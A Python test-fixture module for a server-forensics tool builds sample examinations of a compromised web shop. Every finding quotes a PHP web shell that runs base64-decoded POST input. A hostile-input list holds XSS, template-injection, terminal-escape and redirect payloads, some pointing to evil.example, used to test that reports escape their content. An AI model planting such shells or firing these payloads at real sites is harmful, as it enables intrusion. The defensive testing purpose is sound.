"""Examinations to draw: an ordinary one, one without a finding, a flood, and a hostile one."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from datetime import UTC, datetime, timedelta
from enum import Enum
from typing import Any

from pratique.checks.runner import CheckOutcome, Outcome
from pratique.model import Finding, Instant, Place, Severity, Window
from pratique.phrase import Phrase, as_it_stands
from pratique.story.examination import Coverage, Examination, GapGroup, NextStep, State
from pratique.story.history_answer import HistoryAnswer, Line, Moment, Part
from pratique.story.reached import Line as ReachedLine
from pratique.story.reached import Reached, Scope
from pratique.story.stock import FilesInState, Stock, Unexplained, WithinReach
from pratique.story.story import About, Sentence, Step, Story, Way
from pratique.survey.machine import Machine

_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
NIGHT = datetime(2026, 11, 3, 2, 10, tzinfo=UTC)

KINDS = (
    ("web-php-runs-request", "A PHP file runs what a visitor sends", "CRITICAL", "T1505.003"),
    ("packages-file-differs", "A file of a package differs from its manifest", "CRITICAL", "T1554"),
    ("persistence-preload", "A library is loaded into every program", "CRITICAL", "T1574.006"),
    ("accounts-second-root", "A second account has the rights of root", "HIGH", "T1136.001"),
    ("persistence-cron-fetch", "A cron job fetches code and runs it", "HIGH", "T1053.003"),
    ("web-page-mails-password", "A page asks for a password and mails it", "HIGH", "T1598.003"),
    ("web-php-in-image", "An image holds PHP code", "MEDIUM", "T1027.009"),
    ("files-hidden-in-tmp", "A hidden program lies in a folder for temporary files", "MEDIUM",
     "T1564.001"),
    ("persistence-authorized-key", "A key opens an account of the system", "MEDIUM", "T1098.004"),
    ("files-setuid-no-package", "A set-uid file belongs to no package", "LOW", "T1548.001"),
    ("files-immutable", "A file cannot be changed, not even by root", "NOTE", "T1222.002"),
)  # fmt: skip

QUOTE = """<?php
if (isset($_POST['k'])) {
\t@eval(base64_decode($_POST['k']));
}"""


def at(moment: datetime) -> Instant:
    """The instant of `moment`."""
    return Instant((moment - _EPOCH) // timedelta(microseconds=1) * 1000)


def window(number: int) -> Window:
    """Windows of every shape: mostly intervals, some with one bound, a few with none."""
    seen = at(NIGHT + timedelta(minutes=7 * number, seconds=11 * number))
    shapes = (
        Window(at(NIGHT - timedelta(hours=1)), seen, ("backup", "ctime")),
        Window(None, seen, ("ctime",)),
        Window(at(NIGHT + timedelta(minutes=3 * number)), seen, ("access-log",)),
        Window(at(NIGHT - timedelta(days=170)), at(NIGHT - timedelta(days=169)), ("backup",)),
        Window(at(NIGHT), None, ("package",)),
        Window(None, None, ()),
    )
    return shapes[(0, 1, 2, 1, 2, 0, 1, 3, 4, 1, 5)[number % 11]]


def finding(number: int, places: int = 1, kind: int | None = None) -> Finding:
    """Finding number `number`, of a kind that follows from it."""
    check, title, severity, technique = KINDS[number % len(KINDS) if kind is None else kind]
    folder = f"/var/www/shop-{number % 7}/wp-content/uploads/2026/11"
    return Finding(
        id=f"F-{number + 0x7C1E02:06x}",
        check=check,
        title=title,
        severity=Severity[severity],
        confidence=(0.97, 0.85, 0.7, 0.4, 0.1)[number % 5],
        technique=technique,
        evidence="E-20261103",
        places=tuple(
            Place(f"{folder}/cache-{number}-{index}.php", index + 3, "4f" * 32)
            for index in range(places)
        ),
        quote=QUOTE,
        why="What a visitor sends in the field k is decoded and run, without asking for a login.",
        innocent="Some old plug-ins for remote maintenance do the same. Ask who installed it.",
        next="Keep a copy, then look for the first request to this address in the access log.",
        verify=f"grep -n 'eval(' ROOT{folder}/cache-{number}-0.php",
        window=window(number),
    )


def worst_first(findings: list[Finding]) -> tuple[Finding, ...]:
    """As an examination holds them."""
    return tuple(sorted(findings, key=lambda one: -one.severity))


OUTCOMES = (
    *(CheckOutcome(check, title, Outcome.FOUND, 3) for check, title, _word, _technique in KINDS),
    CheckOutcome(
        "accounts-login-unusual",
        "A login at an unusual hour or from an unusual address",
        Outcome.COULD_NOT_LOOK,
        0,
        ("/var/log/wtmp is damaged after record 212.", "/var/log/btmp could not be read."),
    ),
    CheckOutcome("kernel-module-unknown", "A kernel module of no package", Outcome.NOTHING, 0),
    CheckOutcome(
        "web-handler-runs-images",
        "A web server is told to run images",
        Outcome.NOTHING,
        0,
        ("2 configuration files of nginx could not be understood.",),
    ),
)


def unexplained(number: int) -> Unexplained:
    """An item that nothing explains; the first has a finding."""
    return Unexplained(
        "cron", f"/etc/cron.d/job-{number}", 2, "", "at boot", "root",
        f"/opt/tools/job-{number} --quiet", f"/opt/tools/job-{number}", "unowned", "unowned",
        ("F-7c1e02", "F-gone") if number == 0 else (),
    )  # fmt: skip


def within_reach(number: int) -> WithinReach:
    """A secret that an intruder could read."""
    return WithinReach(
        "database-password", f"/var/www/shop-{number}/settings.php", 12, "DB_PASSWORD",
        'MySQL database "shop"', "www-data", "Set a new password.", ("F-7c1e02",),
    )  # fmt: skip


def stock(items: int = 3, secrets: int = 2) -> Stock:
    """Inventories with so many of each; a page gets fifty at most."""
    return Stock(
        items + 100, items, tuple(map(unexplained, range(min(items, 50)))),
        secrets + 4, secrets, tuple(map(within_reach, range(min(secrets, 50)))),
        (
            FilesInState("verified", "the package database on this disk", 11_204),
            FilesInState("modified", "", 2),
            FilesInState("unowned", "", 7),
        ),
    )  # fmt: skip


def history(count: int = 12) -> HistoryAnswer:
    """Two backups: one with a snapshot each night, one with a few and none to be trusted."""
    found = {0: 0, count // 2: 0, count - 3: 0, count - 2: 3, count - 1: 5}
    nights = tuple(
        Moment(f"snapshot {n}", at(NIGHT - timedelta(days=count - 2 - n, hours=1)), found.get(n))
        for n in range(count)
    )
    clear, dirty = nights[-3:-1]
    return HistoryAnswer(
        (
            Line("restic:/srv/backup", nights, clear, dirty, 9, 4),
            Line("/srv/snapshots", nights[-2:], None, dirty, 2, 0),
            Line("evidence:/etc/.git", (), None, None, 1, 0),
        ),
        clear.time,
        dirty.time,
        (
            Part("site", "/var/www/shop", clear.label, clear.time, ("F-7c1e02", "F-gone")),
            Part("database", "/var/lib/mysql", clear.label, clear.time, ()),
            Part("settings", "/etc", None, None, ("F-7c1e03",)),
            Part("programs", "", clear.label, clear.time, ()),
        ),
        (
            "the backup leaves something out: /var/cache, as its own record says",
            "three nights are missing: 2026-10-20 to 2026-10-22",
        ),
        (),
        ("F-7c1e04",),
    )


def compromised(count: int = 30) -> Examination:
    """A server with `count` findings, some gaps, and steps to take."""
    findings = [finding(number, (1, 4, 14, 1, 1700)[number % 5]) for number in range(count)]
    return Examination(
        case="/home/ada/cases/shop-2026-11",
        evidence="E-20261103-4f2a",
        kind="mounted folder",
        location="/mnt/suspect",
        version="0.1.0",
        started=at(NIGHT + timedelta(days=1)),
        finished=at(NIGHT + timedelta(days=1, seconds=94)),
        state=State.COMPROMISED,
        headline=Phrase(
            "Somebody can run programs on this server through its web shop, and has made sure to "
            "come back: three ways in were found."
        ),
        window=Window(at(NIGHT - timedelta(hours=1)), at(NIGHT), ("backup", "ctime")),
        machine=Machine("shop.example", "Debian GNU/Linux 12", "Europe/Berlin", "9f" * 16),
        coverage=Coverage(
            24_920, 12_852, 12_840, 12, 11_204, 1_206_000_000, 1_205_300_000, 2
        ),
        findings=worst_first(findings),
        outcomes=OUTCOMES,
        gaps=(
            GapGroup("read", "permission denied", 12,
                     ("/root/.ssh/id_ed25519", "/var/lib/private/x"), matters=True),
            GapGroup("list", "permission denied", 2, ("/root/.cache", "/lost+found"), matters=True),
            GapGroup("parse", "line not understood", 3, ("/etc/crontab:17",), matters=True),
            GapGroup("source", "a socket has no content", 5, ("/run/x.sock",), matters=False),
        ),
        limits=(
            Phrase("What was only in memory is gone: running programs and open connections."),
            Phrase("Access times may have been changed when the disk was copied."),
        ),
        next_steps=(
            NextStep(Phrase("Leave the server switched off, or cut it off from the network."),
                     Phrase("Somebody can still come back, and deleting things now deletes the "
                            "evidence.")),
            NextStep(Phrase("Keep an image of the disk before anything is repaired."),
                     Phrase("An insurer or a court will ask for it."),
                     "ddrescue -d /dev/sdb /srv/evidence/shop.img /srv/evidence/shop.map"),
            NextStep(Phrase("Look at the worst finding by hand."),
                     Phrase("You should not have to believe us."), "pratique show F-7c1e02"),
        ),
        stock=stock(),
        history=history(),
    )  # fmt: skip


def nothing_found() -> Examination:
    """No finding, no date, and a good part that could not be read."""
    return replace(
        compromised(0),
        state=State.NO_TRACE,
        headline=Phrase(
            "34 questions were asked and none of them met a trace; 12 files in the home of root "
            "could not be read."
        ),
        window=Window(None, None, ()),
        outcomes=tuple(
            replace(outcome, outcome=Outcome.NOTHING, found=0)
            if outcome.outcome is Outcome.FOUND
            else outcome
            for outcome in OUTCOMES
        ),
        next_steps=(
            NextStep(Phrase("Give the examination the rights to read everything."),
                     Phrase("12 files and 2 folders are readable by root alone."),
                     "sudo pratique examine /mnt/suspect"),
        ),
    )  # fmt: skip


HOSTILE = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg/onload=window.pwned=1>",
    "javascript:window.pwned=1",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "</title></style></textarea></pre></code></bdi>--><script>alert(1)</script>",
    "invoice\u202egpj.php\u2066",
    "a\0b\x1b[2J\x1b]0;owned\x07\x9b31m",
    "</svg><a href=javascript:alert(1)>x</a><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "%(count)s %s %d 100%",
    "&lt;b&gt;&amp;",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a",
    "مرحبا/بالعالم.php",
    "W" * 10_000,
    "<" * 10_000,
    "\u202e" * 10_000,
    "\ud800\udcff",
    "",
)


def hostile(value: Any, text: str) -> Any:
    """`value` with `text` in every field that holds text, however deep."""
    if isinstance(value, str) and not isinstance(value, Enum):
        return text
    if isinstance(value, Phrase):  # the template is ours, what stands in it is not
        return as_it_stands(text)
    if isinstance(value, tuple):
        return tuple(hostile(item, text) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        changed = {field.name: hostile(getattr(value, field.name), text) for field in fields(value)}
        return replace(value, **changed)
    return value


def flood(count: int = 3000) -> Examination:
    """Findings beyond number, each with another trick in all of its texts."""
    findings = [
        hostile(finding(number, 2), HOSTILE[number % len(HOSTILE)]) for number in range(count)
    ]
    return replace(hostile(compromised(0), HOSTILE[5]), findings=worst_first(findings))


def story() -> Story:
    """A story of `compromised`, with a way in, one that is less likely, and a scope."""
    seen = at(NIGHT)
    way = Way(
        "file-upload", seen, Phrase("POST /apply.php from 203.0.113.66"), "203.0.113.66", "", "",
        "web",
        "/var/log/nginx/access.log", 7, '203.0.113.66 - - "POST /apply.php HTTP/1.1" 200 12', 0.93,
        (Step(seen, Phrase("a page was written"), ("F-7c1e02",)),
         Step(None, Phrase("and 3 further steps"))),
        (Step(None, Phrase("it came at the same second"),
              ("F-7c1e02", "/var/log/nginx/access.log:7")),),
        (Step(None, Phrase("the form is used by many")),),
    )  # fmt: skip
    return Story(
        State.COMPROMISED,
        Window(None, seen, ("log",)),
        (way, replace(way, vector="ftp-login", confidence=0.2, line=None, number=9)),
        determinable=True,
        scope=Scope(
            (
                ReachedLine("site", "a.example", Reached.TOUCHED, Phrase("one"),
                            ("F-7c1e02",), ("/a",)),
                ReachedLine("service", "mail", Reached.UNTOUCHED, Phrase("nothing"), (),
                            ("postfix",)),
            )
        ),
        addresses=("203.0.113.66",),
        sentences=(
            Sentence("Somebody broke into this server.", {}, ("F-7c1e02",)),
            Sentence(
                "Almost certainly they came in by a form (%(asked)s).",
                {"asked": "POST /apply.php"},
                ("/var/log/nginx/access.log:7", "F-gone"), About.HOW,
            ),
        ),
    )  # fmt: skip
